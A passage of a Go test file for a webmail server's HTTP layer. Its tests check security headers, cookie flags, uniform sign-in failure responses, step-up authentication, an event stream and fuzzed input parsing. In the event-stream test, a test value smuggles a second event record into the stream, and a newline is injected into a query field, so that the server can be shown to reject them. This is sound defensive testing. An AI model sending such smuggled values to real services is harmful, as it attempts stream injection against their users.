		if strings.Contains(csp, "'unsafe-eval'") || strings.Contains(csp, "unsafe-inline") || strings.Contains(csp, "*") {
			t.Errorf("%s: %s", url, csp)
		}
		for name, want := range map[string]string{"X-Content-Type-Options": "nosniff", "Referrer-Policy": "no-referrer", "Cross-Origin-Opener-Policy": "same-origin", "Cross-Origin-Embedder-Policy": "require-corp"} {
			if h.Get(name) != want {
				t.Errorf("%s: %s is %q", url, name, h.Get(name))
			}
		}
		if !strings.Contains(h.Get("Strict-Transport-Security"), "max-age=63072000") || h.Get("Permissions-Policy") == "" || h.Get("Server") != "" {
			t.Errorf("%s: %v", url, h)
		}
	}
	frame := o.send(request{url: "https://" + contentHost + "/", header: map[string]string{"Sec-Fetch-Dest": "iframe"}}).Header
	csp := frame.Get("Content-Security-Policy")
	if !strings.Contains(csp, "sandbox allow-scripts;") || !strings.Contains(csp, "frame-ancestors "+mailOrigin) || strings.Contains(csp, "connect-src") || frame.Get("Cross-Origin-Resource-Policy") != "cross-origin" {
		t.Errorf("the frame for mails: %v", frame)
	}
	asset := o.send(request{url: "/assets/main-ABC.js", header: map[string]string{"Accept-Encoding": "gzip"}})
	if asset.Header.Get("Content-Encoding") != "gzip" || !strings.Contains(asset.Header.Get("Cache-Control"), "immutable") {
		t.Errorf("an asset: %v", asset.Header)
	}
	if again := o.send(request{url: "/", header: map[string]string{"If-None-Match": o.send(request{url: "/"}).Header.Get("ETag")}}); again.StatusCode != 304 {
		t.Errorf("the page again: %d", again.StatusCode)
	}
}

// TestSignIn: cookies are of the kind that no other host and no script can read or set; failures look alike.
func TestSignIn(t *testing.T) {
	o := open(t, 0)
	in := func(body string) *http.Response {
		return o.send(request{method: "POST", url: "/auth/password", body: body})
	}
	r := in(`{"address":"ann@mori.example","password":"correct horse"}`)
	if b, _ := io.ReadAll(r.Body); r.StatusCode != 200 || string(b) != `{"next":"done"}` {
		t.Fatalf("%d %s", r.StatusCode, b)
	}
	var names []string
	for _, c := range r.Cookies() {
		names = append(names, c.Name)
		if !c.Secure || !c.HttpOnly || c.SameSite != http.SameSiteStrictMode || c.Path != "/" || c.Domain != "" || c.MaxAge <= 0 {
			t.Errorf("%+v", c)
		}
	}
	if !slices.Equal(names, []string{sessionCookie, deviceCookie}) {
		t.Errorf("cookies %q", names)
	}
	in(`{"address":"ann@mori.example","password":{"challenge":"QUJD","sealed":"REVG"}}`)
	if string(o.signIn.Password.Typed.Challenge) != "ABC" || string(o.signIn.Password.Typed.Sealed) != "DEF" || o.signIn.Password.Text != "" || o.signIn.Client.String() != "192.0.2.1" {
		t.Errorf("%+v", o.signIn)
	}
	wrong, _ := io.ReadAll(in(`{"address":"ann@mori.example","password":"wrong"}`).Body)
	unknown, _ := io.ReadAll(in(`{"address":"nobody@mori.example","password":"correct horse"}`).Body)
	o.status = sekisho.Suspended
	suspended, _ := io.ReadAll(in(`{"address":"ann@mori.example","password":"correct horse"}`).Body)
	if !bytes.Equal(wrong, unknown) || !bytes.Equal(wrong, suspended) || !bytes.Contains(wrong, []byte("sign-in-failed")) {
		t.Errorf("%s\n%s\n%s", wrong, unknown, suspended)
	}
	out := o.send(request{method: "POST", url: "/auth/sign-out", body: "{}", cookie: true})
	if c := out.Cookies(); len(c) != 1 || c[0].MaxAge >= 0 {
		t.Errorf("signing out leaves %v", c)
	}
}

// TestStepUp: what changes how somebody signs in asks for a fresh proof, and says so.
func TestStepUp(t *testing.T) {
	o := open(t, 0)
	q := request{method: "POST", url: "/auth/recovery-codes", body: "{}", cookie: true}
	o.expect("fresh", q, 200, "")
	o.now = o.now.Add(freshLife)
	o.expect("stale", q, 403, "step-up")
	o.denied = true
	o.expect("ended", q, 401, "signed-out")
	q.cookie = false
	o.expect("nobody", q, 401, "signed-out")
	o.denied, o.fresh = false, o.now
	o.expect("a number", request{method: "DELETE", url: "/auth/sessions/17", cookie: true}, 200, "")
	if o.factor.ID != 17 || o.factor.Do != wire.DoSessionEnd {
		t.Errorf("%+v", o.factor)
	}
	if !slices.Equal(o.warned, []string{wire.WarnFactor}) { // the codes; not the session
		t.Errorf("the owner was warned of %q", o.warned)
	}
	o.expect("no number", request{method: "DELETE", url: "/auth/sessions/x", cookie: true}, 404, "not-found")
}

// TestEvents: changes arrive as events, a stream ends with its session, and there are only so many.
func TestEvents(t *testing.T) {
	o := open(t, 0)
	o.changes = [][]byte{[]byte(`{"@type":"StateChange","changed":{}}`)}
	r := o.send(request{url: "/jmap/events?types=*&closeafter=state&ping=0", cookie: true})
	b, _ := io.ReadAll(r.Body)
	if r.Header.Get("Content-Type") != "text/event-stream" || !strings.Contains(string(b), "event: state\ndata: {\"@type\":\"StateChange\",\"changed\":{}}\n\n") {
		t.Errorf("%d %s", r.StatusCode, b)
	}
	o.watched, o.changes = nil, [][]byte{[]byte(`{"@type":"StateChange","changed":{"a2":{"Email":"7"}}}`)}
	io.ReadAll(o.send(request{url: "/jmap/events?types=*&closeafter=no", cookie: true}).Body)
	if fmt.Sprint(o.watched) != "[[] [Email=7]]" {
		t.Errorf("asked with states %v: the second question names what the first answer said", o.watched)
	}
	o.changes = [][]byte{[]byte("{}\n\nevent: x\ndata: y")}
	b, _ = io.ReadAll(o.send(request{url: "/jmap/events?types=Email,Mailbox&closeafter=no", cookie: true}).Body)
	if strings.Contains(string(b), "event: x") || len(o.breach) != 1 {
		t.Errorf("an event of the role's own making: %s", b)
	}
	o.expect("bad types", request{url: "/jmap/events?types=%0a&closeafter=no", cookie: true}, 422, "invalid")
	for range streamsPerAccount {
		o.stream(11, 1)
	}
	o.expect("one more", request{url: "/jmap/events?types=*", cookie: true}, 429, "too-many")
}

// TestTexts: every problem and fault that the code names has its texts in both languages.
func TestTexts(t *testing.T) {
	for name, both := range problemTexts {
		for _, s := range both {
			if s.title == "" || s.detail == "" {
				t.Errorf("%s has no text", name)
			}
		}
	}
	o := open(t, 0)
	b, _ := io.ReadAll(o.send(request{url: "/nothing", header: map[string]string{"Accept-Language": "ja-JP"}}).Body)
	if !bytes.Contains(b, []byte("見つかりません")) {
		t.Errorf("%s", b)
	}
}

func FuzzSchema(f *testing.F) {
	f.Add([]byte(envelope))
	f.Add([]byte(`{"using":[[[[[[[[`))
	f.Add([]byte(`{"a":{"a":1,"a":2}}`))
	f.Add([]byte("\xff"))
	s := []*schema{jmapSchema(), formSchema(), passkeySchema(str(10)), small(map[string]*schema{"!code": typedSchema})}
	f.Fuzz(func(t *testing.T, b []byte) {
		for _, s := range s {
			if s.check(b) == nil && !json.Valid(b) {
				t.Errorf("%q passed and is no JSON", b)
			}
		}
	})
}

func FuzzAttestation(f *testing.F) {
	f.Add([]byte("\xa3cfmtdnonegattStmt\xa0hauthDataX\x25"))
	f.Add([]byte{0xbf, 0xff})
	f.Add([]byte{0x9b, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff})
	f.Fuzz(func(t *testing.T, b []byte) {
		if a, err := readAttestation(b); err == nil && (len(a.id) == 0 || len(a.public) == 0) {
			t.Errorf("%x: %+v", b, a)
		}
	})
}

func FuzzRequest(f *testing.F) {
	o := open(f, LayerRate)
	f.Add("GET", "/jmap/session", "x=1", "", "")
	f.Add("POST", "/auth/password", "", `{"address":"a","password":"b"}`, "ja")
	f.Add("DELETE", "/auth/sessions/1", "", "", "*;q=x")
	f.Fuzz(func(t *testing.T, method, path, query, body, language string) {
		r, err := http.NewRequest(method, mailOrigin, strings.NewReader(body))
		if err != nil {
			t.Skip()
		}
		r.URL.Path, r.URL.RawQuery, r.RemoteAddr = path, query, "192.0.2.1:1"
		r.Header.Set("Accept-Language", language)
		r.Header.Set("Content-Type", typeJSON)
		w := httptest.NewRecorder()
		o.ServeHTTP(w, r)
		if w.Code < 200 || w.Code == 500 || w.Header().Get("Content-Security-Policy") == "" {
			t.Errorf("%s %q: %d", method, path, w.Code)
		}
	})
}
